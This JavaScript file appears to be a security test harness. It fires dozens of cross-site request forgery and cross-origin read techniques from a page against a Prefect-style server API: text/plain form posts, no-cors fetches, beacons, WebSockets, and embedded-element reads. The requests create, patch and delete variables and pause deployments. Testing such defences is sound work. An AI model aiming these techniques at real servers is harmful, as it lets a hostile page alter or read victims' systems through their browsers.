"use strict";
// What a page can do to a server whose address it knows. Each deed answers with what it could read, or null.
// Its request says its name; what it makes has its name and the mark of the attack.

// None takes that long, unless something is wrong.
const MOST_MS = 15000;

const within = (promise) => Promise.race([promise, new Promise((done) => setTimeout(done, MOST_MS, null))]);
const event = (target, ...names) => new Promise((done) => names.forEach((name) => target.addEventListener(name, done)));
const variable = (aim) => JSON.stringify({ name: aim.name, value: "harmed" });
const readable = (look) => { try { return look(); } catch { return null; } };

async function fetched(url, options = {}) {
  const answer = await fetch(url, { credentials: "include", ...options });
  return answer.type === "opaque" ? null : await answer.text();
}

function requested(method, url, body, type) {
  return new Promise((done, fail) => {
    const request = new XMLHttpRequest();
    request.open(method, url);
    request.withCredentials = true;
    if (type) request.setRequestHeader("Content-Type", type);
    request.onload = () => done(request.responseText);
    request.onerror = fail;
    request.send(body);
  });
}

async function submitted(url, { enctype, fields = {}, method = "post", rel = "", opened = false }) {
  const name = `into-${Math.random()}`;
  const into = opened ? window.open("/stranger/empty", name) : document.createElement("iframe");
  if (!opened) {
    into.name = name;
    document.body.append(into);
  }
  const form = Object.assign(document.createElement("form"), { action: url, method, target: name, rel });
  if (enctype) form.enctype = enctype;
  for (const [field, value] of Object.entries(fields)) {
    form.append(Object.assign(document.createElement("textarea"), { name: field, value }));
  }
  document.body.append(form);
  const over = opened ? null : event(into, "load");
  form.submit();
  if (opened) return shown(into, "");
  await over;
  return readable(() => into.contentDocument.body.innerText || null);
}

const asText = (aim) => ({ enctype: "text/plain", fields: { [`{"name":"${aim.name}","value":"`]: '"}' } });

async function shown(opened, without) {
  let heard = null;
  window.addEventListener("message", (message) => { if (message.source === opened) heard = "a message"; });
  for (let round = 0; round < 20; round += 1) {
    await new Promise((done) => setTimeout(done, 100));
    opened.postMessage("tell me", "*");
    const text = readable(() => opened.document.body.innerText);
    if (text && text !== without) return text;
    if (heard) return heard;
  }
  return null;
}

async function embedded(tag, properties) {
  const element = document.createElement(tag);
  const over = event(element, "load", "error", "loadeddata");
  Object.assign(element, properties);
  document.body.append(element);
  await over;
  return readable(() => element.contentDocument.body.innerText || null);
}

async function followed(url, withCredentials) {
  const source = new EventSource(url, { withCredentials });
  const how = await event(source, "open", "error");
  source.close();
  return how.type === "open" ? "it is open" : null;
}

async function talked(url, { protocol, say = [] }) {
  const socket = protocol ? new WebSocket(url, protocol) : new WebSocket(url);
  const over = event(socket, "close");
  const heard = [];
  socket.addEventListener("message", (message) => heard.push(message.data));
  await Promise.race([event(socket, "open"), over]);
  if (protocol && socket.readyState === WebSocket.OPEN) {
    socket.send(JSON.stringify({ type: "auth", token: null }));
    await Promise.race([event(socket, "message"), over]);
  }
  if (socket.readyState === WebSocket.OPEN) say.forEach((one) => socket.send(JSON.stringify(one)));
  socket.close(1000);
  const farewell = await over; // the server's own, unless ours is answered
  return farewell.code === 1000 ? heard.join() || "it is open" : null;
}

const happened = (aim) => ({
  id: `00000000-0000-4000-8000-${String(Math.random()).slice(2, 14).padEnd(12, "0")}`,
  event: aim.name, occurred: new Date().toISOString(), resource: { "prefect.resource.id": "a.stranger" }, payload: {},
});

const own = (path, to) => `${location.origin === "null" ? aimed.site : location.origin}/stranger/${path}?to=${encodeURIComponent(to)}`;
const marker = "/variables/name/marker";
let aimed = {};

const DEEDS = {
  form_text: (aim) => submitted(aim.to("/variables/"), asText(aim)),
  form_text_without_referrer: (aim) => submitted(aim.to("/variables/"), { ...asText(aim), rel: "noreferrer" }),
  form_text_into_a_window: (aim) => submitted(aim.to("/variables/"), { ...asText(aim), opened: true }),
  form_text_redirected: (aim) => submitted(own("redirect", aim.to("/variables/")), asText(aim)),
  form_empty: (aim) => submitted(aim.to(`/deployments/${aim.deployment}/pause_deployment`), {}),
  form_urlencoded: (aim) => submitted(aim.to("/variables/"), { fields: { name: aim.name, value: "harmed" } }),
  form_multipart: (aim) => submitted(aim.to("/variables/"), { enctype: "multipart/form-data", fields: { name: aim.name } }),
  form_get: (aim) => submitted(aim.to(marker), { method: "get", fields: { deed: aim.deed } }),

  fetch_text_no_cors: (aim) => fetched(aim.to("/variables/"), { method: "POST", mode: "no-cors", body: variable(aim) }),
  fetch_text: (aim) => fetched(aim.to("/variables/"), { method: "POST", body: variable(aim) }),
  fetch_text_keepalive: (aim) => fetched(aim.to("/variables/"), { method: "POST", mode: "no-cors", body: variable(aim), keepalive: true }),
  fetch_text_redirected: (aim) => fetched(own("redirect", aim.to("/variables/")), { method: "POST", mode: "no-cors", body: variable(aim) }),
  fetch_json: (aim) => fetched(aim.to("/variables/"), { method: "POST", body: variable(aim), headers: { "Content-Type": "application/json" } }),
  fetch_put: (aim) => fetched(aim.to("/saved_searches/"), { method: "PUT", body: JSON.stringify({ name: aim.name }), headers: { "Content-Type": "application/json" } }),
  fetch_patch: (aim) => fetched(aim.to("/variables/name/patched"), { method: "PATCH", body: JSON.stringify({ value: aim.name }) }),
  fetch_delete: (aim) => fetched(aim.to("/variables/name/deleted"), { method: "DELETE" }),
  fetch_from_worker: (aim) => {
    const code = `fetch(${JSON.stringify(aim.to("/variables/"))}, {method: "POST", mode: "no-cors", credentials: "include",
      body: ${JSON.stringify(variable(aim))}}).finally(() => postMessage("done"))`;
    return event(new Worker(URL.createObjectURL(new Blob([code]))), "message", "error").then(() => null);
  },
  xhr_text: (aim) => requested("POST", aim.to("/variables/"), variable(aim), "text/plain"),
  xhr_json: (aim) => requested("POST", aim.to("/variables/"), variable(aim), "application/json"),
  beacon_text: (aim) => { navigator.sendBeacon(aim.to("/variables/"), variable(aim)); return null; },
  beacon_json: (aim) => { navigator.sendBeacon(aim.to("/variables/"), new Blob([variable(aim)], { type: "application/json" })); return null; },
  ping: (aim) => {
    const link = Object.assign(document.createElement("a"), { href: "#", ping: aim.to("/variables/") });
    document.body.append(link);
    link.click();
    return null;
  },
  report: (aim) => embedded("iframe", { src: own("reporting", aim.to(`/deployments/${aim.deployment}/pause_deployment`)) }).then(() => null),

  socket_events_in: (aim) => talked(aim.socket("/events/in"), { say: [happened(aim)] }),
  socket_events_in_greeted: (aim) => talked(aim.socket("/events/in"), { protocol: "prefect", say: [happened(aim)] }),
  socket_events_out: (aim) => talked(aim.socket("/events/out"), { protocol: "prefect" }),
  socket_logs_out: (aim) => talked(aim.socket("/logs/out"), { protocol: "prefect" }),
  socket_task_runs: (aim) => talked(aim.socket("/task_runs/subscriptions/scheduled"), { protocol: "prefect" }),
  socket_worker: (aim) => talked(aim.socket("/work_pools/pool/workers/connect"), { protocol: "prefect" }),

  read_fetch: (aim) => fetched(aim.to(marker)),
  read_fetch_without_credentials: (aim) => fetched(aim.to(marker), { credentials: "omit" }),
  read_fetch_no_cors: (aim) => fetched(aim.to(marker), { mode: "no-cors" }),
  read_fetch_post: (aim) => fetched(aim.to("/variables/filter"), { method: "POST", body: "{}" }),
  read_xhr: (aim) => requested("GET", aim.to(marker)),
  read_import: async (aim) => JSON.stringify((await import(aim.to(marker), { with: { type: "json" } })).default),
  read_stream: (aim) => followed(aim.to("/tm/live/stream"), false),
  read_stream_with_credentials: (aim) => followed(aim.to("/tm/live/stream"), true),
  read_window: (aim) => shown(window.open(aim.to(marker)), ""),
  read_image: (aim) => embedded("img", { src: aim.to(marker) }),
  read_script: (aim) => embedded("script", { src: aim.to(marker) }),
  read_script_module: (aim) => embedded("script", { type: "module", src: aim.to(marker) }),
  read_style: (aim) => embedded("link", { rel: "stylesheet", href: aim.to(marker) }),
  read_prefetch: (aim) => embedded("link", { rel: "prefetch", href: aim.to(marker) }),
  read_video: (aim) => embedded("video", { src: aim.to(marker) }),
  read_frame: (aim) => embedded("iframe", { src: aim.to(marker) }),
  read_object: (aim) => embedded("object", { data: aim.to(marker) }),
  read_embed: (aim) => embedded("embed", { src: aim.to(marker) }),
  frame_docs: (aim) => embedded("iframe", { src: `${aim.server}/docs?deed=${aim.deed}` }),
};

// Does all of it at once; what each could read.
async function attack(given) {
  aimed = given;
  const done = Object.entries(DEEDS).map(async ([name, deed]) => {
    const to = (path) => `${given.server}/api${path}?deed=${name}`;
    const aim = { ...given, deed: name, name: `${name}_${given.mark}`, to, socket: (path) => to(path).replace("http", "ws") };
    try {
      return [name, (await within(deed(aim))) ?? null];
    } catch {
      return [name, null];
    }
  });
  return Object.fromEntries(await Promise.all(done));
}
